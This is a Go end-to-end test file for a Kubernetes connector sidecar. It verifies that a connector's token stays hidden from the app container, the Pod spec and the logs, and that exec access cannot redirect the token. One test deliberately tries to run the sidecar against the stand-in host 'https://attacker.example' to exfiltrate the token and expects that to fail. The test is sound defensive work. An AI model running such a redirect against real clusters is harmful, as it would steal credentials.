package e2e

import (
	"encoding/base64"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"k8s.io/client-go/tools/clientcmd"

	"github.com/kube-connector/kube-connector/test/e2e/bed"
)

// TestAppCannotFindTheToken looks for the token from inside the app: in its
// environment, in every file it can read, and in what /proc shows of processes.
func TestAppCannotFindTheToken(t *testing.T) {
	t.Parallel()
	namespace := newNamespace(t)
	token := newIdentity(t, target, "view").Token(t)
	newConnector(t, namespace, clusters.Target.Address, clusters.Target.CA, token)
	pod := sleeper(namespace)
	create(t, home, pod)
	pod = awaitPod(t, pod, "running", running)

	kubeconfig, err := execute(t, pod, "app", "", "cat", "/var/run/connectors.alauda.io/kubeconfig")
	require.NoError(t, err, kubeconfig)
	config, err := clientcmd.Load([]byte(kubeconfig))
	require.NoError(t, err)
	assert.Equal(t, "k8s", config.CurrentContext)
	require.Contains(t, config.Clusters, "k8s")
	assert.Equal(t, clusters.Target.Address, config.Clusters["k8s"].Server)
	assert.Regexp(t, `^http://`+namespace+`%2Fk8s-connector:[^@]+@127\.0\.0\.1:17443$`, config.Clusters["k8s"].ProxyURL)
	assert.NotEqual(t, clusters.Target.CA, config.Clusters["k8s"].CertificateAuthorityData, "the CA is the sidecar's own")
	require.Contains(t, config.AuthInfos, "k8s")
	assert.Equal(t, "fake-token", config.AuthInfos["k8s"].Token)

	patterns := []string{token, base64.StdEncoding.EncodeToString([]byte(token))}
	patterns = append(patterns, strings.Split(token, ".")[2]) // the signature alone
	assert.Empty(t, bed.Search(t, pod, "app", patterns...), "the app found the token")

	// The same search finds what is there.
	assert.Contains(t, bed.Search(t, pod, "app", "fake-token"), "/var/run/connectors.alauda.io/", "the search itself does not work")

	// Nor does the API show it to those who may read Pods, or logs.
	raw, err := json.Marshal(pod)
	require.NoError(t, err)
	output := logs(t, pod, "connector-proxy")
	for _, pattern := range patterns {
		assert.NotContains(t, string(raw), pattern)
		assert.NotContains(t, output, pattern)
	}
	temporary := strings.Split(strings.Split(config.Clusters["k8s"].ProxyURL, "@")[0], ":")[2]
	assert.NotContains(t, string(raw), temporary)
	assert.NotContains(t, output, temporary)
}

// TestSidecarTakesNothingFromExec: whoever may exec into the sidecar cannot
// start a second one that would carry the token elsewhere.
func TestSidecarTakesNothingFromExec(t *testing.T) {
	t.Parallel()
	namespace := newNamespace(t)
	newConnector(t, namespace, clusters.Target.Address, clusters.Target.CA, newIdentity(t, target, "view").Token(t))
	pod := sleeper(namespace)
	create(t, home, pod)
	pod = awaitPod(t, pod, "running", running)
	awaitSentence(t, "container connector-proxy holds the tokens of Connectors, so nobody gets into it; …", func() string {
		return kubectl(t, "", "-n", namespace, "exec", pod.Name, "-c", "connector-proxy", "--", "/sidecar", "version")
	})

	// Where an administrator lets people in, it still takes nothing from them.
	exempt(t, namespace)
	eventually(t, func() bool {
		_, err := execute(t, pod, "connector-proxy", "", "/sidecar", "version")
		return err == nil
	}, "the exemption has no effect")
	output, err := execute(t, pod, "connector-proxy", "", "/sidecar", "run",
		"--connector="+namespace+"/k8s-connector=https://attacker.example", "--proxy-port=18000")
	require.Error(t, err)
	assert.Contains(t, output, "Pod")
	_, err = execute(t, pod, "connector-proxy", "", "sh", "-c", "true")
	require.Error(t, err, "there is no shell in the image")
}
